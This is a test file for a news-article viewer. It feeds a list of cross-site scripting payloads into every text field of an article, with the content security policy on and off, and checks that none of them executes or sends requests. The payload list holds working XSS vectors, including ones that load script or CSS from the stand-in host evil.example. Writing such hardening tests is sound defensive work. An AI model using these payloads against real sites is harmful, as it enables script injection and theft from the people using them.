import type { Article } from '@news/model'
import type { BrowserContextOptions } from 'playwright-core'
import { describe, expect, inject, test } from 'vitest'
import { fixture } from '../fixture/article'
import { drop, expectClean, type Opened, open, paste, useViewer } from './open'

// Hostile words in every place that a record has for words, with the policy on and off: nothing runs, nothing is sent.
useViewer(() => inject('fixturePage'))

const payloads = [
  '<script>hit=1</script>',
  '"><script src=//evil.example/x.js></script>',
  '<img src=x onerror=hit=1>',
  '<svg onload=hit=1>',
  '<svg><animate onbegin=hit=1 attributeName=x dur=1s>',
  '<iframe srcdoc="<script>parent.hit=1</script>">',
  '<a href="javascript:hit=1" autofocus onfocus=hit=1>x</a>',
  '<details open ontoggle=hit=1>',
  '<style>@import "//evil.example/x.css";</style>',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<base href=//evil.example/>',
  '<meta http-equiv=refresh content="0;url=javascript:hit=1">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=hit=1&gt;">',
  '</textarea><img src=x onerror=hit=1>',
  '&lt;img src=x onerror=hit=1&gt;',
  "' onmouseover=hit=1 x='",
  '" autofocus onfocus="hit=1',
  'javascript:hit=1',
  '{{constructor.constructor("hit=1")()}}',
  '\u0024{globalThis.hit=1}',
  '__proto__',
]

const contexts: [string, BrowserContextOptions][] = [
  ['policy on', {}],
  ['policy off', { bypassCSP: true }],
]

describe.each(contexts)('%s', (_, options) => {
  test.each(payloads)('%s', async (payload) => {
    const opened = await open(options)
    const { page } = opened
    await drop(page, payload, new TextEncoder().encode(payload))
    await page.locator('article').waitFor()
    await page.getByRole('button', { name: 'New text' }).click()
    await paste(
      page,
      JSON.stringify({ articles: [poisoned(payload)], warnings: [{ code: 'x', message: payload }] }),
    )
    await page.locator('article').waitFor()

    for (const mark of await page.locator('article mark').all()) await mark.hover()
    await page.locator('.speaker').first().click()
    await page.keyboard.press('j')
    expect(await page.locator('.statements').textContent()).toContain(payload)
    expect(await page.locator('.why').textContent()).toContain(payload)
    expect(await page.locator('article').textContent()).toContain(payload)
    await page.getByRole('button', { name: 'Change text' }).click()
    expect(await page.locator('textarea').inputValue()).toContain(payload)
    await expectHarmless(opened)
  })
})

test('the check sees what runs, what is sent and what the policy stops', async () => {
  const { page, foreign, violations } = await open({ bypassCSP: true })
  await page.evaluate(() => {
    const image = document.createElement('img')
    image.src = 'http://127.0.0.1:9/x'
    image.setAttribute('onerror', 'hit=1')
    document.body.append(image)
  })
  await page.waitForFunction(() => 'hit' in globalThis)
  expect(foreign).toEqual(['http://127.0.0.1:9/x'])
  expect(await violations()).toEqual([])

  const strict = await open()
  await strict.page.evaluate(() => {
    const image = document.createElement('img')
    image.src = 'http://127.0.0.1:9/x'
    document.body.append(image)
  })
  await strict.page.waitForFunction(() => (globalThis as unknown as { seen: string[] }).seen.length > 0)
  // Once for the policy in the page, once for the one in the header.
  expect(await strict.violations()).toEqual(['img-src ', 'img-src '])
})

test('no string becomes markup: Trusted Types stop it', async () => {
  const { page } = await open()
  const refused = await page.evaluate(() => {
    try {
      document.body.innerHTML = '<b>x</b>'
      return false
    } catch {
      return true
    }
  })
  expect(refused).toBe(true)
})

async function expectHarmless(opened: Opened) {
  expect(await opened.page.evaluate(() => 'hit' in globalThis)).toBe(false)
  await expectClean(opened)
}

/** The hand-made article with the payload wherever a record has room for words. */
function poisoned(payload: string): Article {
  const { text, ...rest } = fixture()
  const at = text.length + 1
  const span = { start: at, end: at + payload.length }
  return {
    ...rest,
    id: payload,
    url: payload,
    headline: payload,
    byline: payload,
    text: `${text}\n${payload}`,
    blocks: [...rest.blocks, { ...span, kind: 'paragraph' }],
    actors: [
      {
        ...rest.actors[0]!,
        id: payload,
        name: payload,
        roles: [{ title: payload, span }],
        aliases: [payload],
      },
    ],
    quotes: [
      {
        ...rest.quotes[0]!,
        id: payload,
        text: payload,
        content: [span],
        cue: [span],
        source: [span],
        via: [span],
        to: [span],
        speaker: payload,
        candidates: [payload],
        basis: [{ rule: 'cue-before', evidence: [span] }],
      },
    ],
  }
}
